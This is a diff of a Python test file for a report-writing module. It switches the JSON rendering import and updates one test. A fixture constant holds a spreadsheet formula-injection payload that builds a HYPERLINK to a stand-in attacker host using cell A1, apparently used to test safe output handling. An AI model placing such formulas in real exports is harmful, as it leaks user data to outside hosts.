@@ -13,8 +13,9 @@ import pytest
 
 from retract.model import State
 from retract.reports.html import MAX_ROWS, headline
+from retract.reports.json_text import json_text
 from retract.reports.model import ReportSummary, RunReport
-from retract.reports.write import COLUMNS, render_csv, render_json, summary_of, write_report
+from retract.reports.write import COLUMNS, render_csv, summary_of, write_report
 from retract.retraction.plan import SkipReason
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
@@ -47,7 +48,7 @@ def hostile(
 
 
 def test_json_is_exact(hostile: RunReport) -> None:
-    text = render_json(hostile)
+    text = json_text(hostile)
     assert text.isascii()
     assert RunReport.model_validate_json(text) == hostile
     assert json.loads(text)["copies"][0]["subject"] == HOSTILE
